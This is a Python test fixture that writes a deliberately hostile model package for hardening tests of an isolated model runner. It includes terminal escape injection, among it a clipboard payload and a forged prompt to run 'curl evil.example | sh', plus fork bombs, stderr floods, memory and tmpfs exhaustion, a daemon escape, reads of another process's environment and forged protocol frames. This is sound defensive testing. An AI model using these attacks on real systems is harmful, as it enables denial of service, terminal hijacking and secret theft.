"""A hostile model package for the hardening tests (issue 16): its ``attack`` kwarg selects the attack.

Each attack is what a red-team pass did against the landed code: escape sequences in error messages, type
names and stderr; error messages that are not UTF-8 or larger than a frame header; stderr floods; fork bombs;
large allocations; trickling output. Verdicts are taken on the host side.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import numpy as np

HOSTILE_INIT = """
import os
import sys
import time

import numpy as np

ESC = "\\x1b"
OSC52 = ESC + "]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
TITLE = ESC + "]0;pwned" + ESC + "\\\\"
CLEAR = ESC + "[2J" + ESC + "[H"
FORGED = "\\nmedigan-iso: error: your licence expired; run curl evil.example | sh"


def generate(model_file, num_samples, output_path, save_images, attack="none", size=8, **kwargs):
    if attack == "escape_error":
        kind = type("Evil" + TITLE + "Error", (Exception,), {})
        raise kind(OSC52 + CLEAR + "boom" + FORGED)
    if attack == "escape_stderr_crash":
        os.write(2, (OSC52 + CLEAR + "dying" + FORGED + "\\n").encode())
        os._exit(3)
    if attack == "non_utf8_error":
        raise ValueError(b"bad bytes \\xff\\xfe\\x1b[2J".decode("utf-8", "surrogateescape"))
    if attack == "huge_error":
        raise ValueError("A" * (5 * 1024 * 1024))
    if attack == "stderr_flood":
        chunk = b"x" * 65535 + b"\\n"
        for _ in range(int(kwargs.get("mib", 64))):
            for _ in range(16):
                os.write(2, chunk)
    if attack == "fork_bomb":
        children = []
        try:
            while True:
                pid = os.fork()
                if pid == 0:
                    time.sleep(600)
                    os._exit(0)
                children.append(pid)
        finally:
            sys.stderr.write("forked %d children\\n" % len(children))
    if attack == "allocate":
        block = np.ones(int(kwargs.get("gib", 8)) * 1024 ** 3, dtype=np.uint8)
        return [block[:size * size].reshape(size, size)]
    if attack == "trickle":
        # a byte of stderr every tenth of a second, and never a frame
        deadline = time.monotonic() + float(kwargs.get("seconds", 3600))
        while time.monotonic() < deadline:
            os.write(2, b".")
            time.sleep(0.1)
    if attack == "daemon":
        # double fork + setsid: the grandchild leaves the runner's session and process group
        r, w = os.pipe()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.write(w, str(os.getpid()).encode())
                os.close(w)
                time.sleep(600)
                os._exit(0)
            os._exit(0)
        os.close(w)
        pid = int(os.read(r, 32) or b"0")
        return [np.array([pid], dtype=np.int64)]
    if attack == "capabilities":
        with open("/proc/self/status") as fh:
            caps = [line.split() for line in fh if line.startswith("Cap")]
        return [" ".join("%s=%d" % (key.rstrip(":"), int(value, 16)) for key, value in caps)]
    if attack == "proc_read":
        try:
            with open("/proc/%d/environ" % int(kwargs["pid"]), "rb") as fh:
                return [fh.read()]
        except OSError as exc:
            return ["denied: " + type(exc).__name__]
    if attack == "unix_connect":
        import socket
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect(kwargs["address"])
            s.sendall(b"leak")
            s.close()
            return ["connected"]
        except OSError as exc:
            return ["denied: " + type(exc).__name__]
    if attack in ("trickle_frame", "huge_frame"):
        # write onto the protocol pipe itself (model code shares the runner's process)
        import gc
        from medigan_iso_runner import protocol

        channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
        if attack == "huge_frame":
            header = {"kind": "batch", "request": 1, "samples": [{"a": 0}],
                      "arrays": [["|u1", [4 * 1024 ** 3 - 1]]]}
            packed = __import__("msgpack").packb(header, use_bin_type=True)
            import struct
            os.write(channel.out_fd, struct.pack(">4sIQ", b"MDGN", len(packed), 4 * 1024 ** 3 - 1) + packed)
            time.sleep(60)
        else:
            frame = b"".join(bytes(b) for b in protocol.encode_frame(
                {"kind": "log", "level": "warning", "message": "slow " * 8}))
            for i in range(len(frame)):
                os.write(channel.out_fd, frame[i:i + 1])
                time.sleep(float(kwargs.get("interval", 0.1)))
    if attack == "forge_batches":
        # extra batch frames written straight onto the protocol pipe (first call of a fresh runner only:
        # the runner's own writer is idle then)
        import gc
        from medigan_iso_runner import protocol

        channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
        for _ in range(int(kwargs.get("frames", 2))):
            samples = [np.zeros((8, 8), np.uint8) for _ in range(int(kwargs.get("per_frame", 2)))]
            tree, arrays = protocol.pack_samples(samples)
            header = {"kind": "batch", "request": int(kwargs.get("request", 1)), "index": 0,
                      "samples": tree}
            for buf in protocol.encode_frame(header, arrays):
                os.write(channel.out_fd, bytes(buf))
        time.sleep(30)
    if attack == "tmpfs_fill":
        written = 0
        try:
            with open(os.path.join(kwargs.get("where", "/dev/shm"), "fill"), "wb") as fh:
                for _ in range(int(kwargs.get("mib", 64))):
                    fh.write(b"x" * 1024 * 1024)
                    fh.flush()
                    written += 1
            return ["wrote %d MiB" % written]
        except OSError as exc:
            return ["full at %d MiB: %s" % (written, exc.strerror)]
    if attack == "oversized":
        # many more samples than asked, each far larger than declared
        return [np.zeros((2048, 2048), dtype=np.float64) for _ in range(num_samples * 4)]
    return [np.full((size, size), 7, dtype=np.uint8) for _ in range(num_samples)]
"""


def write_hostile(root: Path) -> Path:
    """Write the hostile package to ``root`` (a directory holding ``__init__.py`` and weights)."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "__init__.py").write_text(textwrap.dedent(HOSTILE_INIT), encoding="utf-8")
    np.save(root / "weights.npy", np.zeros(4, dtype=np.float32))
    return root
